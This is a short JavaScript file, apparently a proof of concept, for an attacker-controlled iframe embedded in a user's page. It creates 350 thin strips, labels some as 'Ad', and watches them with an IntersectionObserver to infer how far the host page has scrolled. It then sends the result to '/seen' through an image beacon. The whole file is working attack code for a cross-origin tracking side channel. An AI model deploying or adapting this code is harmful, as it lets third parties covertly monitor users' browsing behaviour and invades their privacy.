// The attacker's frame, 7000 px tall in the user's page: 350 strips of 20 px, each watched for
// being on screen. Which strips the top-level viewport shows tells how far the page scrolled.
const strips = document.getElementById('strips');
const visible = new Set();
let reported = null;
let timer = null;
const observer = new IntersectionObserver((entries) => {
  for (const entry of entries) {
    if (entry.isIntersecting) visible.add(Number(entry.target.dataset.i)); else visible.delete(Number(entry.target.dataset.i));
  }
  clearTimeout(timer);
  timer = setTimeout(() => {
    const first = Math.min(...visible);
    if (reported !== null && first !== reported) new Image().src = `/seen?first=${first}`;
    reported = first;
  }, 300);
});
for (let i = 0; i < 350; i += 1) {
  const strip = document.createElement('div');
  strip.style.height = '20px';
  strip.dataset.i = String(i);
  strip.textContent = i % 10 === 0 ? `Ad ${i}` : '';
  strips.append(strip);
  observer.observe(strip);
}
